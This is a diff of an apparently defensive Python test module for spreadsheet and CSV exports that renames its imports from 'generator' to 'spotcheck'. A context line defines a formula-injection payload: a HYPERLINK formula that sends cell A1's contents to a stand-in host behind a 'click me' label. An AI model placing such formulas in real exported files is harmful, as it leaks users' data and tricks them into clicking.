@@ -8,12 +8,12 @@ from pathlib import Path
 
 from openpyxl import load_workbook
 
-from generator import yamlio
-from generator.exports.cells import csv_text
-from generator.exports.opendata import write_opendata
-from generator.exports.tasksheet import SHEET, write_tasksheet
-from generator.records import load
-from generator.schemas import SchemaSet
+from spotcheck import yamlio
+from spotcheck.exports.cells import csv_text
+from spotcheck.exports.opendata import write_opendata
+from spotcheck.exports.tasksheet import SHEET, write_tasksheet
+from spotcheck.records import load
+from spotcheck.schemas import SchemaSet
 from tests.results.fixture_repo import TASK, fresh_repo, selected
 
 HOSTILE = '=HYPERLINK("http://evil.invalid/?x="&A1,"点我")'
